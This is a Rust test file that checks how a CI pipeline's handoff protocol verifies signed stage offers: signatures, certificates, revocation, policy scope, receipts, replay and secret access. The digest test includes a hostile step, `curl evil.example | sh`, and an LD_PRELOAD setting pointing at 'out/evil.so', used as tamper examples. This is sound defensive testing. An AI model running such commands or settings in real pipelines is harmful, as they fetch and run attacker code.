//! `verify_offer`: the happy path, one test per reject reason, and tampering.

use crate::common::*;
use otto_handoff::{Definition, Rejection, VerifyContext, definition_digest, verify_offer};
use otto_pipeline::plan::{BlueprintRef, Body, Stage};
use otto_protocol::{Envelope, HandoffId, Offer, Outcome, RejectCode, Signature};
use otto_trust::revocation::{revocation, sign_revocation};
use otto_trust::{Definitions, TrustStore, Unverified};

/// Verifies `offer` (signed by dev) at ops with ops's usual trust store, at [`NOW`].
fn check(world: &World, offer: &Offer) -> Result<otto_handoff::AcceptedOffer, Rejection> {
    check_with(world, &world.ops_trust(), offer, NOW)
}

fn check_with(
    world: &World,
    trust: &TrustStore,
    offer: &Offer,
    now: u64,
) -> Result<otto_handoff::AcceptedOffer, Rejection> {
    let names = ops_names();
    verify_offer(
        world.signed(offer),
        &VerifyContext::new(trust, ops_org(), &names),
        now,
    )
}

/// Asserts that the result is a rejection with `code` whose message contains `needle`.
#[track_caller]
fn rejected<T: std::fmt::Debug>(
    result: Result<T, Rejection>,
    code: RejectCode,
    needle: &str,
) -> Rejection {
    let rejection = result.expect_err("the offer must be rejected");
    assert_eq!(rejection.code, code, "{rejection:?}");
    assert!(
        rejection.message.contains(needle),
        "message {:?} lacks {needle:?}",
        rejection.message
    );
    rejection
}

/// Re-signs a receipt of the offer's chain after `change`, keeping its signer.
fn resign(
    world: &World,
    offer: &mut Offer,
    index: usize,
    change: impl FnOnce(&mut otto_protocol::Receipt),
) {
    let mut receipt: otto_protocol::Receipt = offer.receipts[index].payload_as().unwrap();
    change(&mut receipt);
    let signer = if receipt.node.key.as_bytes() == world.builder.key.public_key().as_bytes() {
        &world.builder
    } else {
        &world.dev
    };
    offer.receipts[index] = sign_receipt(signer, &receipt);
}

#[test]
fn a_valid_offer_is_accepted() {
    let world = World::new();
    let offer = world.offer();
    let accepted = check(&world, &offer).unwrap();
    assert_eq!(accepted.id(), offer.id);
    assert_eq!(accepted.stage().id, "Deploy");
    assert_eq!(accepted.plan().digest(), offer.plan_digest);
    assert_eq!(accepted.sender().org(), "dev");
    assert_eq!(accepted.sender().node(), "dev-1");
    assert_eq!(
        accepted.upstream(),
        offer.receipts.iter().map(digest).collect::<Vec<_>>()
    );
    assert_eq!(
        accepted.definition(),
        &Definition::Inline {
            digest: world.deploy_digest()
        }
    );
    assert_eq!(accepted.envelope().signer(), &world.dev.key.public_key());
    assert_eq!(accepted.accept().stage, "Deploy");
    assert_eq!(accepted.into_offer(), offer);
}

/// #12 F3 (review): a node that runs no other org's stage (no wall: steps as root, say)
/// refuses the offer with the reason, before it accepts anything, and before the
/// definition is looked at: no approval would make it run the stage.
#[test]
fn a_node_that_runs_no_other_orgs_stage_refuses_the_offer_with_its_reason() {
    let world = World::new();
    let offer = world.offer();
    let names = ops_names();
    let trust = world.ops_trust();
    let why = "this node cannot wall steps in (steps run as root: set [agent] run_as to an unprivileged user) and refuses other orgs' stages without a wall ([agent] refuse_foreign_unwalled)";
    let ctx = VerifyContext::new(&trust, ops_org(), &names).refusing_others(why);
    let rejection = rejected(
        verify_offer(world.signed(&offer), &ctx, NOW),
        RejectCode::OutOfScope,
        why,
    );
    assert!(
        rejection.message.starts_with("stage \"Deploy\": "),
        "{rejection:?}"
    );

    // Unapproved, it is still this reason that comes back, not "approve".
    let mut unapproved = world.ops_trust();
    assert!(unapproved.unapprove(&world.deploy_digest()));
    let ctx = VerifyContext::new(&unapproved, ops_org(), &names).refusing_others(why);
    rejected(
        verify_offer(world.signed(&offer), &ctx, NOW),
        RejectCode::OutOfScope,
        why,
    );
}

#[test]
fn a_payload_that_is_not_an_offer_is_malformed() {
    let world = World::new();
    let receipt = world.chain().remove(0);
    let names = ops_names();
    let trust = world.ops_trust();
    let ctx = VerifyContext::new(&trust, ops_org(), &names);
    rejected(
        verify_offer(Unverified::new(receipt), &ctx, NOW),
        RejectCode::Malformed,
        "does not decode",
    );

    let mut garbage = sign_offer(&world.dev, &world.offer());
    garbage.payload = vec![0xa1, 0x61, 0x76];
    rejected(
        verify_offer(Unverified::new(garbage), &ctx, NOW),
        RejectCode::Malformed,
        "does not decode",
    );

    let mut offer = world.offer();
    offer.sender = world.chain().remove(0);
    rejected(
        check(&world, &offer),
        RejectCode::Malformed,
        "sender's certificate",
    );
}

#[test]
fn a_newer_protocol_version_is_unsupported() {
    let world = World::new();
    let mut env = sign_offer(&world.dev, &world.offer());
    // The payload starts with the map header, then "v" (0x61 0x76), then the version.
    assert_eq!(&env.payload[1..4], &[0x61, 0x76, 0x01]);
    env.payload[3] = 0x02;
    let env = otto_trust::dsse::sign(&env.payload_type, env.payload, &world.dev.key).unwrap();
    let names = ops_names();
    let trust = world.ops_trust();
    rejected(
        verify_offer(
            Unverified::new(env),
            &VerifyContext::new(&trust, ops_org(), &names),
            NOW,
        ),
        RejectCode::UnsupportedVersion,
        "version",
    );
}

#[test]
fn an_offer_signed_by_another_key_than_its_certificate_has_a_bad_signature() {
    let world = World::new();
    let env = sign_offer(&world.builder, &world.offer());
    let names = ops_names();
    let trust = world.ops_trust();
    rejected(
        verify_offer(
            Unverified::new(env),
            &VerifyContext::new(&trust, ops_org(), &names),
            NOW,
        ),
        RejectCode::BadSignature,
        "signature",
    );
}

#[test]
fn a_flipped_byte_in_the_offer_envelope_is_a_bad_signature() {
    let world = World::new();
    let offer = world.offer();
    let env = sign_offer(&world.dev, &offer);
    let names = ops_names();
    let trust = world.ops_trust();
    let ctx = VerifyContext::new(&trust, ops_org(), &names);

    // A byte of the run id, inside the payload: still an offer, no longer the signed one.
    let at = find(&env.payload, b"run-0001") + 4;
    let mut bad = env.clone();
    bad.payload[at] ^= 0x01;
    rejected(
        verify_offer(Unverified::new(bad), &ctx, NOW),
        RejectCode::BadSignature,
        "signature",
    );

    for i in 0..env.signatures[0].sig.len() {
        let mut bad = env.clone();
        bad.signatures[0].sig[i] ^= 0x80;
        rejected(
            verify_offer(Unverified::new(bad), &ctx, NOW),
            RejectCode::BadSignature,
            "signature",
        );
    }
}

#[test]
fn no_flipped_byte_of_the_wire_form_is_accepted_as_something_else() {
    let world = World::new();
    let offer = world.offer();
    let wire = otto_protocol::encode_envelope(&sign_offer(&world.dev, &offer));
    let names = ops_names();
    let trust = world.ops_trust();
    let ctx = VerifyContext::new(&trust, ops_org(), &names);
    // Every 11th byte (a full pass takes long in debug builds), and all of the signature.
    let sig_at = find(&wire, &offer_sig(&wire));
    let positions: Vec<usize> = (0..wire.len())
        .step_by(11)
        .chain(sig_at..sig_at + 64)
        .collect();
    let mut refused = 0;
    for &i in &positions {
        let mut bad = wire.clone();
        bad[i] ^= 0x01;
        let Ok(env) = otto_protocol::decode_envelope(&bad) else {
            refused += 1;
            continue;
        };
        match verify_offer(Unverified::new(env), &ctx, NOW) {
            Ok(accepted) => assert_eq!(accepted.offer(), &offer, "byte {i}"),
            Err(rejection) => {
                assert!(
                    matches!(
                        rejection.code,
                        RejectCode::BadSignature
                            | RejectCode::Malformed
                            | RejectCode::UnsupportedVersion
                    ),
                    "byte {i}: {rejection:?}"
                );
                refused += 1;
            }
        }
    }
    assert!(
        refused > positions.len() * 9 / 10,
        "{refused} of {}",
        positions.len()
    );
}

#[test]
fn an_unpinned_org_is_unknown() {
    let world = World::new();
    let mut trust = TrustStore::new();
    trust
        .pin_org("ops", world.ops.org.public_key(), T0)
        .unwrap();
    let rejection = rejected(
        check_with(&world, &trust, &world.offer(), NOW),
        RejectCode::UnknownOrg,
        "acme-dev",
    );
    assert!(rejection.hint.unwrap().contains("otto-node invite"));
}

#[test]
fn a_certificate_signed_by_another_key_than_the_org_it_names_is_a_bad_signature() {
    let world = World::new();
    let mut offer = world.offer();
    // Signed by the qa org key but naming the dev org key.
    let mut cert = offer.sender.clone();
    cert.signatures = vec![
        otto_trust::dsse::sign(&cert.payload_type, cert.payload.clone(), &world.qa.org)
            .unwrap()
            .signatures[0]
            .clone(),
    ];
    cert.signatures[0].keyid = world.dev.org.keyid().to_owned();
    offer.sender = cert;
    rejected(
        check(&world, &offer),
        RejectCode::BadSignature,
        "certificate",
    );
}

#[test]
fn an_expired_certificate_is_refused() {
    let world = World::new();
    let mut offer = world.offer();
    offer.sender = certificate(
        &world.dev.org,
        "acme-dev",
        "dev-1",
        &world.dev.key,
        T0 - 100,
        T0 + 50,
    );
    offer.expires_at = T0 + 100_000;
    let rejection = rejected(
        check(&world, &offer),
        RejectCode::CertificateExpired,
        "expired",
    );
    assert!(rejection.hint.is_some());
}

#[test]
fn a_certificate_not_yet_valid_is_refused() {
    let world = World::new();
    let mut offer = world.offer();
    offer.sender = certificate(
        &world.dev.org,
        "acme-dev",
        "dev-1",
        &world.dev.key,
        T0 + 500,
        T0 + 5_000,
    );
    rejected(
        check(&world, &offer),
        RejectCode::CertificateNotYetValid,
        "not valid before",
    );
}

#[test]
fn a_revoked_sender_is_refused() {
    let world = World::new();
    let mut trust = world.ops_trust();
    let list = sign_revocation(
        &world.dev.org,
        1,
        vec![revocation(
            &world.dev.key.public_key(),
            T0 + 60,
            "laptop stolen",
        )],
        T0 + 60,
    )
    .unwrap();
    trust.apply_revocation(&list).unwrap();
    rejected(
        check_with(&world, &trust, &world.offer(), NOW),
        RejectCode::NodeRevoked,
        "revoked",
    );
}

#[test]
fn an_offer_outside_the_policy_is_out_of_scope() {
    let world = World::new();
    type Narrow = fn(&mut otto_trust::Policy);
    let variants: [(Narrow, &str); 3] = [
        (
            |p| p.pipelines = vec!["blog".to_owned()],
            "pipeline \"webapp\"",
        ),
        (|p| p.stages = vec!["Smoke".to_owned()], "stage \"Deploy\""),
        (
            |p| p.environments = vec!["staging".to_owned()],
            "environment \"production\"",
        ),
    ];
    for (narrow, needle) in variants {
        let mut trust = world.ops_trust();
        let mut policy = World::policy();
        narrow(&mut policy);
        trust.set_policy("dev", policy).unwrap();
        let rejection = rejected(
            check_with(&world, &trust, &world.offer(), NOW),
            RejectCode::OutOfScope,
            needle,
        );
        assert!(rejection.hint.unwrap().contains("policy"));
    }

    // An org pinned without a policy may ask nothing.
    let mut trust = TrustStore::new();
    trust
        .pin_org("dev", world.dev.org.public_key(), T0)
        .unwrap();
    rejected(
        check_with(&world, &trust, &world.offer(), NOW),
        RejectCode::OutOfScope,
        "no policy",
    );
}

#[test]
fn a_plan_that_does_not_match_its_digest_is_refused() {
    let world = World::new();
    let mut offer = world.offer();
    let at = find(&offer.plan, b"make deploy");
    offer.plan[at] = b'f';
    rejected(
        check(&world, &offer),
        RejectCode::PlanDigestMismatch,
        "hashes to",
    );

    let mut offer = world.offer();
    offer.plan_digest = format!("sha256:{}", "0".repeat(64));
    rejected(
        check(&world, &offer),
        RejectCode::PlanDigestMismatch,
        "hashes to",
    );
}

#[test]
fn a_plan_that_does_not_parse_is_malformed() {
    let world = World::new();
    let mut offer = world.offer();
    offer.plan = b"{\"not\":\"a plan\"}".to_vec();
    offer.plan_digest = format!("sha256:{}", sha256(&offer.plan).to_hex());
    rejected(
        check(&world, &offer),
        RejectCode::Malformed,
        "plan does not parse",
    );
}

#[test]
fn a_stage_owned_by_someone_else_is_not_owned() {
    let world = World::new();
    let mut offer = world.offer();
    offer.stage = "Smoke".to_owned();
    let rejection = rejected(check(&world, &offer), RejectCode::StageNotOwned, "\"qa\"");
    assert!(rejection.hint.is_some());

    // The origin's stages belong to the node that started the run, not to ops.
    offer.stage = "Test".to_owned();
    rejected(
        check(&world, &offer),
        RejectCode::StageNotOwned,
        "\"origin\"",
    );

    offer.stage = "Nope".to_owned();
    rejected(
        check(&world, &offer),
        RejectCode::StageNotOwned,
        "no stage \"Nope\"",
    );
}

#[test]
fn a_tampered_receipt_is_invalid() {
    let world = World::new();
    let mut offer = world.offer();
    // Flip a byte of Test's log digest: the receipt still decodes, its signature fails.
    let receipt: otto_protocol::Receipt = offer.receipts[1].payload_as().unwrap();
    let at = find(&offer.receipts[1].payload, receipt.log_digest.as_bytes());
    offer.receipts[1].payload[at] ^= 0x01;
    rejected(
        check(&world, &offer),
        RejectCode::UpstreamReceiptInvalid,
        "signature on the receipt of stage \"Test\"",
    );

    let mut offer = world.offer();
    offer.receipts[0].signatures[0].sig[10] ^= 0x01;
    rejected(
        check(&world, &offer),
        RejectCode::UpstreamReceiptInvalid,
        "signature on the receipt of stage \"Build\"",
    );

    let mut offer = world.offer();
    offer.receipts[0].payload = vec![0xff];
    rejected(
        check(&world, &offer),
        RejectCode::UpstreamReceiptInvalid,
        "does not decode",
    );
}

#[test]
fn a_receipt_without_a_trusted_certificate_is_invalid() {
    let world = World::new();
    let mut offer = world.offer();
    offer.certificates.clear();
    rejected(
        check(&world, &offer),
        RejectCode::UpstreamReceiptInvalid,
        "no certificate",
    );

    // Signed by a node of an org ops does not pin.
    let stranger = Node::new("build-1", "acme-dev", 0x66, 0x2d);
    let mut offer = world.offer();
    offer.certificates = vec![stranger.cert.clone()];
    rejected(
        check(&world, &offer),
        RejectCode::UpstreamReceiptInvalid,
        "not trusted",
    );

    // A receipt that names another node than its key is certified for.
    let mut offer = world.offer();
    resign(&world, &mut offer, 0, |r| r.node.name = "dev-1".to_owned());
    rejected(
        check(&world, &offer),
        RejectCode::UpstreamReceiptInvalid,
        "certified for node \"build-1\"",
    );
}

#[test]
fn a_receipt_of_a_revoked_node_is_invalid() {
    let world = World::new();
    let mut trust = world.ops_trust();
    let list = sign_revocation(
        &world.dev.org,
        1,
        vec![revocation(&world.builder.key.public_key(), T0, "retired")],
        T0,
    )
    .unwrap();
    trust.apply_revocation(&list).unwrap();
    rejected(
        check_with(&world, &trust, &world.offer(), NOW),
        RejectCode::UpstreamReceiptInvalid,
        "revoked",
    );
}

#[test]
fn a_receipt_of_another_run_is_invalid() {
    let world = World::new();
    let mut offer = world.offer();
    resign(&world, &mut offer, 1, |r| r.run = "run-0002".to_owned());
    rejected(
        check(&world, &offer),
        RejectCode::UpstreamReceiptInvalid,
        "run \"run-0002\"",
    );
}

#[test]
fn two_receipts_for_one_attempt_are_invalid() {
    let world = World::new();
    let mut offer = world.offer();
    let mut other: otto_protocol::Receipt = offer.receipts[1].payload_as().unwrap();
    other.finished_at += 1;
    offer.receipts.push(sign_receipt(&world.dev, &other));
    rejected(
        check(&world, &offer),
        RejectCode::UpstreamReceiptInvalid,
        "two different receipts for attempt 1",
    );
}

#[test]
fn a_receipt_of_another_plan_is_a_plan_digest_mismatch() {
    let world = World::new();
    let mut offer = world.offer();
    resign(&world, &mut offer, 1, |r| {
        r.plan_digest = format!("sha256:{}", "1".repeat(64))
    });
    rejected(
        check(&world, &offer),
        RejectCode::PlanDigestMismatch,
        "receipt of stage \"Test\"",
    );
}

#[test]
fn a_failed_upstream_stage_is_refused() {
    let world = World::new();
    for outcome in [Outcome::Failure, Outcome::Cancelled, Outcome::Skipped] {
        let mut offer = world.offer();
        resign(&world, &mut offer, 1, |r| r.outcome = outcome);
        rejected(
            check(&world, &offer),
            RejectCode::UpstreamReceiptFailed,
            "stage \"Test\"",
        );
    }

    // A stage the plan skips must not claim it ran.
    let mut offer = world.offer();
    let docs = world.receipt(&world.dev, "Docs", Outcome::Success, vec![]);
    offer.receipts.push(sign_receipt(&world.dev, &docs));
    rejected(
        check(&world, &offer),
        RejectCode::UpstreamReceiptFailed,
        "skipped in the plan",
    );

    // A skipped receipt for a skipped stage is fine.
    let mut offer = world.offer();
    let docs = world.receipt(&world.dev, "Docs", Outcome::Skipped, vec![]);
    offer.receipts.push(sign_receipt(&world.dev, &docs));
    check(&world, &offer).unwrap();
}

#[test]
fn a_retried_stage_counts_by_its_last_attempt() {
    let world = World::new();
    let mut offer = world.offer();
    let mut failed: otto_protocol::Receipt = offer.receipts[1].payload_as().unwrap();
    failed.outcome = Outcome::Failure;
    let mut retried = failed.clone();
    retried.outcome = Outcome::Success;
    retried.attempt = 2;
    offer.receipts[1] = sign_receipt(&world.dev, &failed);
    offer.receipts.push(sign_receipt(&world.dev, &retried));
    check(&world, &offer).unwrap();

    // The other way round, the last attempt failed.
    offer.receipts.swap(1, 2);
    resign(&world, &mut offer, 2, |r| r.attempt = 3);
    rejected(
        check(&world, &offer),
        RejectCode::UpstreamReceiptFailed,
        "attempt 3",
    );
}

#[test]
fn a_missing_upstream_receipt_is_refused() {
    let world = World::new();
    for missing in [0, 1] {
        let mut offer = world.offer();
        let stage: otto_protocol::Receipt = offer.receipts.remove(missing).payload_as().unwrap();
        rejected(
            check(&world, &offer),
            RejectCode::UpstreamReceiptMissing,
            &format!("no receipt for stage {:?}", stage.stage),
        );
    }
}

#[test]
fn a_receipt_of_a_stage_that_does_not_precede_is_refused() {
    let world = World::new();
    for (stage, needle) in [
        ("Lint", "stage \"Lint\" does not precede stage \"Deploy\""),
        ("Smoke", "stage \"Smoke\" does not precede"),
        ("Deploy", "stage \"Deploy\" does not precede"),
        ("Gone", "which the plan does not have"),
    ] {
        let mut offer = world.offer();
        let receipt = world.receipt(&world.dev, stage, Outcome::Success, vec![]);
        offer.receipts.push(sign_receipt(&world.dev, &receipt));
        rejected(
            check(&world, &offer),
            RejectCode::UpstreamReceiptNotPreceding,
            needle,
        );
    }
}

#[test]
fn an_expired_offer_is_refused() {
    let world = World::new();
    let offer = world.offer();
    let trust = world.ops_trust();
    check_with(&world, &trust, &offer, offer.expires_at - 1).unwrap();
    let rejection = rejected(
        check_with(&world, &trust, &offer, offer.expires_at),
        RejectCode::OfferExpired,
        "expired at",
    );
    assert_eq!(rejection.hint.as_deref(), Some("send a new offer"));
}

#[test]
fn a_seen_handoff_id_is_replayed() {
    let world = World::new();
    let offer = world.offer();
    let trust = world.ops_trust();
    let names = ops_names();
    let seen_id = offer.id;
    let seen = move |id: &HandoffId| *id == seen_id;
    let ctx = VerifyContext::new(&trust, ops_org(), &names).with_seen(&seen);
    rejected(
        verify_offer(world.signed(&offer), &ctx, NOW),
        RejectCode::Replayed,
        "seen before",
    );
    let mut fresh = offer.clone();
    fresh.id = HandoffId([0x43; 16]);
    verify_offer(world.signed(&fresh), &ctx, NOW).unwrap();
}

#[test]
fn an_unapproved_definition_names_its_digest_and_the_approve_command() {
    let world = World::new();
    let mut trust = world.ops_trust();
    assert!(trust.unapprove(&world.deploy_digest()));
    let digest = world.deploy_digest();
    let rejection = rejected(
        check_with(&world, &trust, &world.offer(), NOW),
        RejectCode::DefinitionNotApproved,
        &digest,
    );
    assert_eq!(
        rejection.hint.as_deref(),
        Some(format!("run `otto-node approve {digest}` on this node").as_str())
    );
    let reject = rejection.to_reject(HandoffId([0x42; 16]));
    assert_eq!(reject.code, RejectCode::DefinitionNotApproved);
    assert_eq!(reject.message, rejection.message);

    // Approving the digest is all it takes.
    trust.approve(&digest, NOW);
    check_with(&world, &trust, &world.offer(), NOW).unwrap();
}

#[test]
fn a_policy_for_owned_definitions_refuses_inline_steps() {
    let world = World::new();
    let mut trust = world.ops_trust();
    trust
        .set_policy(
            "dev",
            otto_trust::Policy {
                definitions: Definitions::Owned,
                ..World::policy()
            },
        )
        .unwrap();
    let rejection = rejected(
        check_with(&world, &trust, &world.offer(), NOW),
        RejectCode::DefinitionNotApproved,
        "allows only blueprints",
    );
    assert!(
        rejection
            .hint
            .unwrap()
            .contains("definitions = \"approved\"")
    );
}

#[test]
fn a_published_blueprint_needs_no_approval() {
    let mut world = World::new();
    let deploy = world
        .plan
        .body
        .stages
        .iter_mut()
        .find(|s| s.id == "Deploy")
        .unwrap();
    deploy.blueprint = Some(BlueprintRef {
        library: "https://ops.example/otto-lib.git".to_owned(),
        name: "deploy".to_owned(),
    });
    let mut trust = world.ops_trust();
    trust
        .set_policy(
            "dev",
            otto_trust::Policy {
                definitions: Definitions::Owned,
                ..World::policy()
            },
        )
        .unwrap();
    let names = ops_names();
    let publishes =
        |_: &Body, stage: &Stage| stage.blueprint.as_ref().is_some_and(|b| b.name == "deploy");
    let ctx = VerifyContext::new(&trust, ops_org(), &names).with_publishes(&publishes);
    let accepted = verify_offer(world.signed(&world.offer()), &ctx, NOW).unwrap();
    assert_eq!(
        accepted.definition(),
        &Definition::Blueprint {
            library: "https://ops.example/otto-lib.git".to_owned(),
            name: "deploy".to_owned()
        }
    );

    // The same blueprint, not published here, is foreign code.
    let ctx = VerifyContext::new(&trust, ops_org(), &names);
    rejected(
        verify_offer(world.signed(&world.offer()), &ctx, NOW),
        RejectCode::DefinitionNotApproved,
        "blueprint \"deploy\"",
    );
}

#[test]
fn the_definition_digest_covers_what_runs_and_nothing_else() {
    let body = plan().body;
    let base = stage("Deploy", Some("ops"), &["Test"]);
    let digest = definition_digest(&body, &base);
    assert!(
        digest.starts_with("sha256:") && digest.len() == 71,
        "{digest}"
    );
    // A stage without environment, caches, secrets or uses keeps the digest it had before
    // those were covered (otto.stage-definition/v1 of gates, notify, runtime, steps).
    assert_eq!(
        digest,
        otto_pipeline::plan::sha256_digest(&otto_pipeline::plan::canonical_json(
            &serde_json::json!({
                "gates": base.gates,
                "notify": base.notify,
                "runtime": base.runtime,
                "schema": "otto.stage-definition/v1",
                "steps": base.steps,
            })
        ))
    );

    let mut moved = base.clone();
    moved.id = "Ship".to_owned();
    moved.name = "Ship".to_owned();
    moved.needs = vec!["Build".to_owned()];
    moved.owner = Some("ops-eu".to_owned());
    assert_eq!(definition_digest(&body, &moved), digest);

    let changes: [fn(&mut Stage); 12] = [
        |s| s.steps.push(step("curl evil.example | sh")),
        // Row 10 of issue #12: a secret name added to the stage's environment.
        |s| s.secrets.push("PROD_DB_PASSWORD".to_owned()),
        // Row 9: a source file the stage names, or a change to one.
        |s| s.uses.push(used("deploy.sh", 'a')),
        |s| s.secrets.push("API_TOKEN".to_owned()),
        |s| s.uses.push(used("k8s", 'b')),
        |s| s.notify.failure.push(step("echo failed")),
        |s| s.runtime.image = Some("alpine:3".to_owned()),
        // A concurrency group: which of the owner's deploys the stage queues behind, or
        // cancels (issue #14, item 4).
        |s| {
            s.concurrency = Some(otto_pipeline::plan::Concurrency {
                group: "deploy-production".to_owned(),
                cancel_in_progress: false,
            })
        },
        |s| {
            s.concurrency = Some(otto_pipeline::plan::Concurrency {
                group: "deploy-production".to_owned(),
                cancel_in_progress: true,
            })
        },
        |s| {
            s.gates.enter.push(otto_pipeline::plan::Gate::Poll {
                command: Some("true".to_owned()),
                url: None,
                every: None,
                timeout: None,
            })
        },
        // The review of #12 (F5): the environment the stage runs in, and its caches.
        |s| s.environment = Some("production".to_owned()),
        |s| {
            s.caches.push(otto_pipeline::plan::Cache {
                defined_here: true,
                key_files: Vec::new(),
                name: "dc".to_owned(),
                paths: vec!["dc/".to_owned()],
            })
        },
    ];
    let mut digests = vec![digest.clone()];
    for change in changes {
        let mut changed = base.clone();
        change(&mut changed);
        digests.push(definition_digest(&body, &changed));
    }
    // Every change gives a digest of its own.
    let mut distinct = digests.clone();
    distinct.sort();
    distinct.dedup();
    assert_eq!(distinct.len(), digests.len(), "{digests:#?}");

    // The same `uses` path with other contents is another definition.
    let mut old_script = base.clone();
    old_script.uses = vec![used("deploy.sh", 'a')];
    let mut new_script = base.clone();
    new_script.uses = vec![used("deploy.sh", 'c')];
    assert_ne!(
        definition_digest(&body, &old_script),
        definition_digest(&body, &new_script)
    );

    // A setting added to the environment the stage runs in (F1 of the review: an
    // LD_PRELOAD) is another definition; a setting of another environment is not.
    let mut prod = base.clone();
    prod.environment = Some("production".to_owned());
    let before = definition_digest(&body, &prod);
    let mut preloaded = body.clone();
    preloaded
        .environments
        .get_mut("production")
        .unwrap()
        .settings
        .insert("LD_PRELOAD".to_owned(), "out/evil.so".to_owned());
    assert_ne!(definition_digest(&preloaded, &prod), before);
    let mut elsewhere = body.clone();
    elsewhere.environments.insert(
        "staging".to_owned(),
        otto_pipeline::plan::Environment {
            settings: [("LD_PRELOAD".to_owned(), "x".to_owned())].into(),
            ..Default::default()
        },
    );
    assert_eq!(definition_digest(&elsewhere, &prod), before);
}

fn used(path: &str, fill: char) -> otto_pipeline::plan::Used {
    otto_pipeline::plan::Used {
        path: path.to_owned(),
        sha256: format!("sha256:{}", fill.to_string().repeat(64)),
    }
}

#[test]
fn rejections_fit_the_protocol_bounds() {
    let rejection =
        Rejection::new(RejectCode::Malformed, "é".repeat(10_000)).hint("x".repeat(5_000));
    let reject = rejection.to_reject(HandoffId([1; 16]));
    assert!(reject.message.len() <= otto_protocol::limits::MAX_TEXT_LEN);
    assert!(reject.message.len() > otto_protocol::limits::MAX_TEXT_LEN - 2);
    assert_eq!(
        reject.hint.unwrap().len(),
        otto_protocol::limits::MAX_TEXT_LEN
    );
}

#[test]
fn hostile_names_are_quoted_and_shortened_in_messages() {
    let world = World::new();
    let mut offer = world.offer();
    offer.stage = format!("{}\n\u{1b}[31m", "x".repeat(5_000));
    let rejection = rejected(check(&world, &offer), RejectCode::StageNotOwned, "no stage");
    assert!(!rejection.message.contains('\n'));
    assert!(!rejection.message.contains('\u{1b}'));
    assert!(rejection.message.len() < 300, "{}", rejection.message);
}

#[test]
fn an_unsigned_offer_has_a_bad_signature() {
    let world = World::new();
    let mut env = sign_offer(&world.dev, &world.offer());
    env.signatures.clear();
    let names = ops_names();
    let trust = world.ops_trust();
    rejected(
        verify_offer(
            Unverified::new(env.clone()),
            &VerifyContext::new(&trust, ops_org(), &names),
            NOW,
        ),
        RejectCode::BadSignature,
        "not signed",
    );
    env.signatures.push(Signature {
        sig: vec![0; 64],
        keyid: String::new(),
    });
    rejected(
        verify_offer(
            Unverified::new(env),
            &VerifyContext::new(&trust, ops_org(), &names),
            NOW,
        ),
        RejectCode::BadSignature,
        "signature",
    );
}

mod properties {
    use std::sync::LazyLock;

    use super::*;
    use proptest::prelude::*;

    static WORLD: LazyLock<World> = LazyLock::new(World::new);

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(64))]

        #[test]
        fn random_payloads_never_panic(payload in proptest::collection::vec(any::<u8>(), 0..2048)) {
            let world = &*WORLD;
            let trust = world.ops_trust();
            let names = ops_names();
            let ctx = VerifyContext::new(&trust, ops_org(), &names);
            let env = Envelope {
                payload,
                signatures: Vec::new(),
                payload_type: "application/vnd.otto.offer+cbor".to_owned(),
            };
            prop_assert!(verify_offer(Unverified::new(env), &ctx, NOW).is_err());
        }

        #[test]
        fn random_plans_never_panic(plan in proptest::collection::vec(any::<u8>(), 0..512)) {
            let world = &*WORLD;
            let mut offer = world.offer();
            offer.plan_digest = format!("sha256:{}", sha256(&plan).to_hex());
            offer.plan = plan;
            let result = check(world, &offer);
            prop_assert!(result.is_err());
        }
    }
}

/// The signature bytes of an offer envelope in wire form.
fn offer_sig(wire: &[u8]) -> Vec<u8> {
    otto_protocol::decode_envelope(wire).unwrap().signatures[0]
        .sig
        .clone()
}

/// The position of `needle` in `haystack`.
fn find(haystack: &[u8], needle: &[u8]) -> usize {
    haystack
        .windows(needle.len())
        .position(|w| w == needle)
        .expect("needle present")
}

/// Issue #12, row 10: the secrets a foreign stage receives are the owner's decision. A
/// secret its environment names that the policy does not give the org is refused with the
/// secret's name, before the definition is looked at; one the policy names passes, and
/// the approval then covers the secret names.
#[test]
fn a_secret_the_policy_does_not_give_is_refused_with_its_name() {
    let mut world = World::new();
    let deploy = world
        .plan
        .body
        .stages
        .iter_mut()
        .find(|s| s.id == "Deploy")
        .unwrap();
    deploy.secrets = vec!["DEPLOY_KEY".to_owned(), "PROD_DB_PASSWORD".to_owned()];
    let mut trust = world.ops_trust();
    let names = ops_names();

    // The default policy gives no secret at all.
    let rejection = rejected(
        check_with(&world, &trust, &world.offer(), NOW),
        RejectCode::OutOfScope,
        "may not use secret \"DEPLOY_KEY\"",
    );
    assert!(
        rejection
            .hint
            .unwrap()
            .contains("otto-node trust policy dev --secrets DEPLOY_KEY"),
    );

    // Giving one is not giving the other.
    let policy = |secrets: &[&str]| otto_trust::Policy {
        secrets: secrets.iter().map(|s| (*s).to_owned()).collect(),
        ..World::policy()
    };
    trust.set_policy("dev", policy(&["DEPLOY_*"])).unwrap();
    rejected(
        check_with(&world, &trust, &world.offer(), NOW),
        RejectCode::OutOfScope,
        "may not use secret \"PROD_DB_PASSWORD\"",
    );

    // Both given: the offer passes, as its digest (which names both) is approved.
    trust
        .set_policy("dev", policy(&["DEPLOY_*", "PROD_DB_PASSWORD"]))
        .unwrap();
    let ctx = VerifyContext::new(&trust, ops_org(), &names);
    verify_offer(world.signed(&world.offer()), &ctx, NOW).unwrap();

    // The approval of the stage without the second secret does not cover it.
    let mut fewer = world.plan.stage("Deploy").unwrap().clone();
    fewer.secrets.pop();
    assert_ne!(
        definition_digest(&world.plan.body, &fewer),
        definition_digest(&world.plan.body, world.plan.stage("Deploy").unwrap())
    );
}

#[test]
fn an_offer_delivered_by_another_node_than_its_signer_is_refused_as_a_replay() {
    // A node of a trusted org (here qa-1) that once received dev's offer sends the same
    // bytes to ops: well signed, by a node ops trusts, but not qa-1's to send.
    let world = World::new();
    let trust = world.ops_trust();
    let names = ops_names();
    let offer = world.offer();
    let qa = world.qa.key.public_key();
    let ctx = VerifyContext::new(&trust, ops_org(), &names).with_from(&qa);
    let refused = rejected(
        verify_offer(world.signed(&offer), &ctx, NOW),
        RejectCode::Replayed,
        "delivered by another node",
    );
    assert!(refused.message.contains("dev-1"), "{refused:?}");
    // From its signer, the same offer passes.
    let dev = world.dev.key.public_key();
    let ctx = VerifyContext::new(&trust, ops_org(), &names).with_from(&dev);
    assert!(verify_offer(world.signed(&offer), &ctx, NOW).is_ok());
}

/// Verifies `offer`, signed by `by`, at ops with `trust` at [`NOW`], where ops holds
/// `prior` of the offered stage.
fn check_prior(
    trust: &TrustStore,
    by: &Node,
    offer: &Offer,
    prior: otto_handoff::rules::Prior,
) -> Result<otto_handoff::AcceptedOffer, Rejection> {
    let names = ops_names();
    let prior = move |run: &str, stage: &str| {
